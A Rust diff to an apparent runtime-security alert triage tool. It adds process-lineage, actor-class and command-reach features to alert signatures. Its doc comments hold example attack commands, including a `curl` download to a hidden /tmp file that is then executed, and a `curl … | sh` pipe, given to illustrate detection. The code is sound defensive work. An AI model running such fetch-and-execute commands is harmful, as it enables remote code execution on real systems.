@@ -8,7 +8,7 @@ use std::collections::BTreeMap;
 use quell_events::FlatEvent;
 use serde::Serialize;
 
-use crate::evidence::{role, shape, system_account, Role, DROP_DIRS};
+use crate::evidence::{actor, in_drop_dir, role, shape, system_account, Role, DROP_DIRS};
 use crate::input::{int, text, Alert, Record};
 
 /// Fields that name what an alert acted on, most specific first.
@@ -26,12 +26,23 @@ pub const TARGET_FIELDS: &[&str] = &[
 /// carries them so that it triages into the cluster it stands for.
 pub const SIGNATURE_FIELDS: &[&str] = &[
     "container.image.repository",
+    "container.image",
+    "proc.pexepath",
+    "proc.aexepath[2]",
+    "proc.aexepath[3]",
+    "proc.aexepath[4]",
+    "proc.stdin_type",
+    "proc.stdout_type",
+    "proc.stderr_type",
+    "proc.is_exe_from_memfd",
+    "proc.is_exe_upper_layer",
     "container.id",
     "k8s.ns.name",
     "proc.exepath",
     "proc.name",
     "proc.pname",
     "proc.cmdline",
+    "proc.pcmdline",
     "proc.tty",
     "user.name",
     "user.uid",
@@ -59,10 +70,7 @@ pub struct Signature {
 impl Signature {
     /// The signature of an alert of `rule` on `ev`.
     pub fn of(rule: &str, ev: &FlatEvent) -> Signature {
-        let workload = text(ev, "container.image.repository")
-            .or_else(|| text(ev, "container.id").filter(|c| c == "host"))
-            .unwrap_or_else(|| "host".into());
-        let mut workload = mask(&workload);
+        let mut workload = mask(&workload(ev));
         // Another namespace is another context (a near-attack's `kubectl exec` into
         // another team's pod): the namespace goes in when known.
         if let Some(ns) = text(ev, "k8s.ns.name").filter(|n| !n.is_empty()) {
@@ -86,6 +94,14 @@ impl Signature {
         if let Some(p) = text(ev, "proc.pname").or_else(|| text(ev, "proc.aname[1]")) {
             lineage.push(format!("parent={}", mask(&p)));
         }
+        // Who started the parent's shell or program: the first ancestor above the parent
+        // that is not a shell (a notebook kernel's `sh -c pip …` is not a web server's).
+        if let Some((_, above, _)) = crate::evidence::lineage(ev)
+            .into_iter()
+            .find(|(level, name, _)| *level >= 2 && role(name) != Role::Shell)
+        {
+            lineage.push(format!("above={}", mask(&above)));
+        }
         // Who it runs as, by kind: root, a service account by name (a role), or a person
         // (whose name is incidental); and whether it has a terminal (a runtime's piped exec
         // is not an interactive shell).
@@ -102,12 +118,30 @@ impl Signature {
             Some(l) if (1..4_294_967_295).contains(&l) => lineage.push("login=person".into()),
             _ => {}
         }
+        // How the session was entered and what the lineage holds that the verdict reads:
+        // two alerts that differ here are two behaviours, whatever else they share.
+        lineage.push(actor_class(ev));
+        // The parent's command line by kind: the same program run by `bash` at a terminal
+        // and by `sh -c 'curl … | sh; …'` is not one behaviour.
+        if let Some(pc) = text(ev, "proc.pcmdline") {
+            lineage.push(format!("pcmd={}", command_reach(&pc)));
+        }
+        let command = text(ev, "proc.cmdline");
         let target = match target(ev) {
-            Some((_, t)) if t.contains("->") => mask_connection(&t),
-            Some((_, t)) => mask_path(&t),
-            None => text(ev, "proc.cmdline")
-                .map(|c| mask_command(&c))
-                .unwrap_or_default(),
+            Some((_, t)) => {
+                // With a target, what the command that acted on it reaches goes in too:
+                // the same file removed by `rm` and by `sh -c 'rm …; curl …'`, or by a tool
+                // given a hidden temporary path, are two behaviours.
+                if let Some(c) = &command {
+                    lineage.push(format!("cmd={}", command_reach(c)));
+                }
+                if t.contains("->") {
+                    mask_connection(&t)
+                } else {
+                    mask_path(&t)
+                }
+            }
+            None => command.map(|c| mask_command(&c)).unwrap_or_default(),
         };
         Signature {
             rule: rule.to_string(),
@@ -143,6 +177,64 @@ impl Signature {
             feed(part);
         }
         format!("{:012x}", h >> 16)
+    }
+}
+
+/// The facts of an alert's own lineage that triage's verdict reads, as one key: the
+/// session's entry (`entry=login` for a login or terminal entry, `entry=runtime` for a
+/// container runtime's `exec`, `entry=none`), then those present of a service in the
+/// lineage (`service`), a service's shell (`service-shell`), a scheduler (`scheduler`), a
+/// dropped executable (`dropped`), a network socket as a standard stream (`net-stdio`).
+/// An operator's `kubectl exec` and a web server's shell doing the same thing differ here
+/// even where the shape's few roles do not show it.
+pub fn actor_class(ev: &FlatEvent) -> String {
+    let a = actor(ev);
+    let entry = if a.entry.is_some() {
+        "login"
+    } else if a.runtime.is_some() {
+        "runtime"
+    } else {
+        "none"
+    };
+    let mut out = format!("entry={entry}");
+    for (present, word) in [
+        (a.service.is_some(), "service"),
+        (a.service_shell.is_some(), "service-shell"),
+        (a.scheduler.is_some(), "scheduler"),
+        (a.dropped_exe.is_some(), "dropped"),
+        (a.network_stdio.is_some(), "net-stdio"),
+    ] {
+        if present {
+            out.push(' ');
+            out.push_str(word);
+        }
+    }
+    out
+}
+
+/// The workload of an event: the image's repository (`container.image.repository`, or
+/// `container.image` without its tag or digest), `host` on the host, and `container` for
+/// a container whose image is unknown (never the host's).
+pub fn workload(ev: &FlatEvent) -> String {
+    if let Some(repo) = text(ev, "container.image.repository").filter(|r| !r.is_empty()) {
+        return repo;
+    }
+    if let Some(image) = text(ev, "container.image").filter(|r| !r.is_empty()) {
+        return image_repository(&image).to_string();
+    }
+    match text(ev, "container.id") {
+        Some(c) if !c.is_empty() && c != "host" => "container".into(),
+        _ => "host".into(),
+    }
+}
+
+/// An image reference without its digest (`@sha256:...`) and tag (`:1.2`; a registry's
+/// `:port` stays): `registry:5000/team/app:1.2@sha256:ab` → `registry:5000/team/app`.
+pub fn image_repository(image: &str) -> &str {
+    let image = image.split_once('@').map_or(image, |(r, _)| r);
+    match image.rsplit_once(':') {
+        Some((repo, tag)) if !tag.contains('/') => repo,
+        _ => image,
     }
 }
 
@@ -254,6 +346,103 @@ fn mask_command_at(cmdline: &str, depth: usize) -> String {
         pos += 1;
     }
     out.join(" ")
+}
+
+/// What a command line runs and reaches, with its options and plain values left out: the
+/// programs of its commands in order (a shell's `-c` script command by command), and for
+/// its arguments only what points outside the behaviour's own files: an address or URL by
+/// class (`public`, `private`, `loopback`, or the host name masked), a `/dev/tcp` or
+/// `/dev/udp` redirection (`net-redirect`), a path in a temporary or shared-memory
+/// directory (`drop`), a command substitution (`subst`). Runs of one tool with other
+/// options or other files of its own (`--tags web`, `--profile monthly.prf`, `-U`) read
+/// the same; a download, a chained command, a hidden temporary path do not
+/// (`sh -c 'curl -o /tmp/.u http://203.0.113.7/p && /tmp/.u'` →
+/// `sh -c curl drop http://public ; drop:.u`).
+pub fn command_reach(cmdline: &str) -> String {
+    let mut out = Vec::new();
+    reach_at(cmdline, 0, &mut out);
+    out.join(" ")
+}
+
+fn reach_at(cmdline: &str, depth: usize, out: &mut Vec<String>) {
+    if depth > MAX_SCRIPT_DEPTH {
+        out.push("deep".into());
+        return;
+    }
+    let toks = shell_tokens(cmdline);
+    let mut pos = 0usize;
+    let mut shell = false;
+    let mut i = 0;
+    while i < toks.len() {
+        let t = &toks[i];
+        i += 1;
+        if is_operator(t) {
+            // The kind of chaining is incidental (`;` or `&&`); that there is one is not.
+            out.push(";".into());
+            pos = 0;
+            continue;
+        }
+        if t.contains("$(") || t.contains('`') {
+            out.push("subst".into());
+        }
+        let word = if is_quoted(t) {
+            &t[1..t.len() - 1]
+        } else {
+            t.as_str()
+        };
+        if pos == 0 {
+            let name = word.rsplit('/').next().unwrap_or(word);
+            shell = role(name) == Role::Shell;
+            out.push(if in_drop_dir(word) {
+                format!("drop:{}", mask(name))
+            } else {
+                mask(name)
+            });
+            pos = 1;
+            continue;
+        }
+        pos += 1;
+        if shell && word == "-c" {
+            out.push("-c".into());
+            let rest: Vec<String> = toks[i..].to_vec();
+            let script = match rest.as_slice() {
+                [one] if is_quoted(one) => one[1..one.len() - 1].to_string(),
+                _ => rest.join(" "),
+            };
+            reach_at(&script, depth + 1, out);
+            return;
+        }
+        // An option's value: `--url=http://…`, `-o/tmp/x`.
+        let value = word.split_once('=').map_or(word, |(_, v)| v);
+        if let Some(r) = reach_of(value) {
+            out.push(r);
+        }
+    }
+}
+
+/// What one argument reaches, if it points outside the behaviour's own files (see
+/// [`command_reach`]).
+fn reach_of(w: &str) -> Option<String> {
+    let path =
+        w.trim_start_matches(|c: char| c.is_ascii_digit() || c == '<' || c == '>' || c == '&');
+    if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
+        return Some("net-redirect".into());
+    }
+    if in_drop_dir(path) {
+        return Some("drop".into());
+    }
+    if let Some((scheme, rest)) = w.split_once("://") {
+        let host = rest.split('/').next().unwrap_or(rest);
+        let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
+        let host = host.rsplit_once(':').map_or(host, |(h, _)| h);
+        return Some(format!("{}://{}", mask(scheme), host_class(host)));
+    }
+    if let Some((_, rest)) = w.split_once('@') {
+        let host = rest.split_once(':').map_or(rest, |(h, _)| h);
+        return Some(format!("@{}", host_class(host)));
+    }
+    let host = w.rsplit_once(':').map_or(w, |(h, _)| h);
+    ip_class(host).map(str::to_string)
 }
 
 /// One argument of a command, by kind (see [`mask_command`]).
